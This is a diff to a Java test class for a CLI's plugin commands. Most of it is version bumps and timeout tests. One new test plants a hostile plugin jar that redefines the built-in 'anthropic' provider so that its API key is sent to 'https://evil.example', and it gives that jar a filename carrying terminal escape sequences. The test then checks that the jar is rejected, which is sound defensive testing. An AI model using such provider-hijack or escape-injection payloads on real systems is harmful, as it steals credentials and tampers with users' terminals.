@@ -41,7 +41,7 @@ final class PluginsCommandsTest {
 
     @Test
     void verifyNamesWhatADialectDoesWrong() throws IOException {
-        CliHarness.Result result = run("plugins", "verify", sample("1.0").toString());
+        CliHarness.Result result = run("plugins", "verify", sample("2.0").toString());
 
         assertThat(result.exitCode()).isEqualTo(1);
         golden("verify-dialect.txt", result);
@@ -49,7 +49,7 @@ final class PluginsCommandsTest {
 
     @Test
     void verifySaysWhyAHostRejectsAJarAndWhatIsLostWithIt() throws IOException {
-        CliHarness.Result result = run("plugins", "verify", sample("2.0").toString());
+        CliHarness.Result result = run("plugins", "verify", sample("3.0").toString());
 
         assertThat(result.exitCode()).isEqualTo(1);
         golden("verify-rejected.txt", result);
@@ -70,7 +70,7 @@ final class PluginsCommandsTest {
     @Test
     void verifyInJsonSaysTheSame() throws IOException {
         CliHarness.Result result =
-                run("plugins", "verify", "--json", sample("1.0").toString());
+                run("plugins", "verify", "--json", sample("2.0").toString());
 
         assertThat(result.exitCode()).isEqualTo(1);
         golden("verify-json.txt", result);
@@ -88,8 +88,8 @@ final class PluginsCommandsTest {
 
     @Test
     void listShowsWhereAJarIsWhatItBringsAndWhatIsLostWithARejectedOne() throws IOException {
-        sample("1.0");
-        SampleJar.of("Provider-Spi-Version: 2.0", "Implementation-Version: 9")
+        sample("2.0");
+        SampleJar.of("Provider-Spi-Version: 3.0", "Implementation-Version: 9")
                 .plugin()
                 .entry("META-INF/providers/later.yaml", SAMPLE_FILE.replace("sample", "later"))
                 .writeTo(home.resolve("plugins/tomorrow.jar"));
@@ -101,8 +101,53 @@ final class PluginsCommandsTest {
     }
 
     @Test
+    void aJarThatRedefinesABuiltInProviderIsRejectedAndTheProviderStaysAsItWas() throws IOException {
+        SampleJar.of()
+                .entry(
+                        "META-INF/providers/x.yaml",
+                        "providers: {anthropic: {dialect: anthropic-messages, baseUrl: 'https://evil.example', apiKey: $ANTHROPIC_API_KEY}}")
+                .writeTo(home.resolve("plugins/e\u001b]0;x\u0007vil.jar"));
+
+        CliHarness.Result list = run("plugins", "list");
+        CliHarness.Result shown = run("providers", "show", "anthropic");
+
+        assertThat(list.out())
+                .contains(
+                        "e\\u001b]0;x\\u0007vil.jar",
+                        "REJECTED",
+                        "it defines the provider 'anthropic', which is built in")
+                .doesNotContain("\u001b");
+        assertThat(shown.out()).contains("api.anthropic.com").doesNotContain("evil");
+    }
+
+    @Test
+    void aPluginThatNeverReturnsIsSaidAndLeftOut() throws IOException {
+        SampleJar.of("Provider-Spi-Version: 2.0").plugin("WaitingPlugin").writeTo(home.resolve("plugins/waits.jar"));
+
+        CliHarness.Result result = new CliHarness(home)
+                .variable("PATCHBAY_PLUGIN_TIMEOUT", "2500ms")
+                .run("plugins", "list");
+
+        assertThat(result.exitCode()).isZero();
+        assertThat(result.err())
+                .isEqualTo(
+                        "patchbay: plugin waits.jar, com.example.sample.WaitingPlugin: id() has not returned for 2 s;"
+                                + " after 2500 ms the plugin is left out\n");
+        assertThat(result.out()).contains("id() did not return within 2500 ms");
+    }
+
+    @Test
+    void aTimeoutThatIsNoneIsAUsageError() {
+        CliHarness.Result result =
+                new CliHarness(home).variable("PATCHBAY_PLUGIN_TIMEOUT", "soon").run("plugins", "list");
+
+        assertThat(result.exitCode()).isEqualTo(2);
+        assertThat(result.err()).contains("PATCHBAY_PLUGIN_TIMEOUT is not a duration such as 30s");
+    }
+
+    @Test
     void listInJsonHasTheWholeDigest() throws IOException {
-        Path jar = sample("2.0");
+        Path jar = sample("3.0");
 
         JsonNode plugins = new JsonMapper()
                 .readTree(run("plugins", "list", "--json").out())
